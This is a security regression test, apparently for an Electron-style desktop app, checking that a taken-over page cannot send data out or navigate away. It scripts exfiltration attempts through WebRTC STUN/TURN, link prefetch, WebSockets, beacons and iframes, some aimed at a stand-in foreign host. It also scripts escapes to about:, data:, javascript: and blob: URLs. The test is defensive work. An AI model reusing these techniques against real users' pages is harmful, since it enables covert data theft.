import { createSocket, type Socket } from 'node:dgram';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { makeDemoWorld, temporaryFolder } from '../../fixtures/worlds/demo-world.ts';
import { isInBrowser } from '../../fixtures/in-browser/named-browser.ts';
import { launchApp, windowApi, type RunningApp } from '../../fixtures/window/launch-app.ts';
import { readNetLog, startNetLog } from '../../fixtures/measures/net-log.ts';
import { proofPath, writeProof } from '../../fixtures/proof.ts';

/** Whoever would receive what the page sends. */
interface Listeners {
  readonly udp: Socket;
  readonly tcp: Server;
  readonly heard: { datagrams: number; connections: number };
}

async function listen(): Promise<Listeners> {
  const heard = { datagrams: 0, connections: 0 };
  const udp = createSocket('udp4').on('message', () => (heard.datagrams += 1));
  const tcp = createServer((socket) => {
    heard.connections += 1;
    socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => udp.bind(0, '0.0.0.0', resolve));
  await new Promise<void>((resolve) => tcp.listen(0, '0.0.0.0', resolve));
  return { udp, tcp, heard };
}

/** A page under foreign control wants to send what it has read, and to get away from the rules of its page. */
describe.skipIf(isInBrowser())('a page under foreign control', () => {
  let running: RunningApp;
  let listeners: Listeners;

  beforeAll(async () => {
    const world = await makeDemoWorld();
    listeners = await listen();
    running = await launchApp([world.contract], { SEALDESK_HOME: world.home });
    await running.window.locator('.page canvas').first().waitFor();
  });
  afterAll(async () => {
    await running.close();
    listeners.udp.close();
    listeners.tcp.close();
  });

  it('reaches nobody, by WebRTC, by links, by sockets, nor by the names that it asks for', async () => {
    const log = join(temporaryFolder(), 'network.json');
    await startNetLog(running, log);
    const ports = { udp: listeners.udp.address().port, tcp: (listeners.tcp.address() as AddressInfo).port };
    const tried = await running.window.evaluate(async ({ udp, tcp }) => {
      const wait = (ms: number): Promise<unknown> => new Promise((resolve) => setTimeout(resolve, ms));
      const turn = { username: 'a', credential: 'b' };
      const speak = async (
        host: string,
        [udpAt, tcpAt]: readonly [string, string],
      ): Promise<RTCPeerConnection> => {
        const connection = new RTCPeerConnection({
          iceServers: [
            { urls: `stun:${host}${udpAt}` },
            { urls: `turn:${host}${udpAt}?transport=udp`, ...turn },
            { urls: `turn:${host}${tcpAt}?transport=tcp`, ...turn },
            { urls: `turns:${host}${tcpAt}?transport=tcp`, ...turn },
          ],
        });
        connection.createDataChannel('documents');
        await connection.setLocalDescription(await connection.createOffer());
        const offer = connection.localDescription?.sdp ?? '';
        const sdp = offer.replace('a=setup:actpass', 'a=setup:active').replace(/a=candidate.*\r\n/g, '');
        await connection.setRemoteDescription({ type: 'answer', sdp });
        const candidate = `candidate:1 1 udp 2113937151 ${host} ${udp} typ host`;
        await connection.addIceCandidate({ candidate, sdpMid: '0' }).catch(() => undefined);
        return connection;
      };
      const made = await Promise.all([
        speak('127.0.0.1', [`:${udp}`, `:${tcp}`]),
        speak('what-the-contract-says.example', ['', '']),
      ]);
      for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'icon']) {
        for (const host of [`127.0.0.1:${tcp}`, 'what-the-contract-says.example']) {
          document.head.append(
            Object.assign(document.createElement('link'), { rel, as: 'script', href: `http://${host}/` }),
          );
        }
      }
      const attempts: (() => unknown)[] = [
        () => new WebSocket(`ws://127.0.0.1:${tcp}/`),
        () => new WebTransport(`https://127.0.0.1:${udp}/`).ready.catch(() => undefined),
        () => new EventSource(`http://127.0.0.1:${tcp}/`),
        () => navigator.sendBeacon(`http://127.0.0.1:${tcp}/`, 'x'),
        () => (new Image().src = `http://127.0.0.1:${tcp}/`),
        () =>
          document.body.append(
            Object.assign(document.createElement('iframe'), { src: `http://127.0.0.1:${tcp}/` }),
          ),
      ];
      for (const attempt of attempts) {
        try {
          attempt();
        } catch {
          // Refused at once.
        }
      }
      await wait(4_000);
      return made.length;
    }, ports);
    const network = await readNetLog(running, log);
    writeProof('attack-12-page-speaks', {
      reproduction:
        'A taken-over page sends data out by WebRTC (STUN, TURN over UDP, TCP and TLS, a peer), links, sockets and names',
      before: {
        commit: 'bf234e7',
        answer: '74 datagrams, 2 TCP connections, 16 questions for the name of a foreign server',
      },
      now: { ...listeners.heard, ...network },
    });
    expect(tried).toBe(2);
    expect(listeners.heard).toEqual({ datagrams: 0, connections: 0 });
    expect(network).toEqual({ names: [], sent: 0 });
  });

  it.each([
    ['about:blank', 'location.href = "about:blank"'],
    ['about:srcdoc', 'location.href = "about:srcdoc"'],
    ['data:', 'location.href = "data:text/html,away"'],
    ['javascript:', 'location.href = "javascript:document.write(1)"'],
    ['blob:', 'location.href = URL.createObjectURL(new Blob(["away"], { type: "text/html" }))'],
    ['another page of the app', 'location.href = "app://sealdesk/other.html"'],
    ['about:blank in its place', 'location.replace("about:blank")'],
    ['about:blank of a new window', 'open("about:blank", "_self")'],
    ['a form', 'Object.assign(document.createElement("form"), { action: "about:blank" }).submit()'],
  ])('is the page of the app again at once after it leaves for %s', async (_where, script) => {
    const { window } = running;
    await window.evaluate(script).catch(() => undefined);
    await window.waitForTimeout(500);
    // Not by a locator: Playwright waits for a navigation that the app has refused.
    const shows = (): Promise<boolean> =>
      window.evaluate(() => document.body.innerText.includes('打开')).catch(() => false);
    await expect.poll(shows, { timeout: 10_000 }).toBe(true);
    expect(window.url()).toBe('app://sealdesk/index.html');
    const api = await windowApi(window);
    expect(await api.evaluate(({ app }) => app.info())).toMatchObject({ ok: true });
  });

  it('is shown whole in the end', async () => {
    writeProof('attack-12-page-leaves', {
      reproduction: "location = 'about:blank' and other ways leave app://",
      before: { commit: 'bf234e7', answer: 'the window shows about:blank and stays there' },
      now: 'the page of the app is back within half a second; nothing else is admitted to main meanwhile',
    });
    await running.window.screenshot({ path: proofPath('screenshots', 'attack-12-page-after-leaving.png') });
    expect(await running.window.evaluate(() => window.origin)).toBe('app://sealdesk');
  });
});
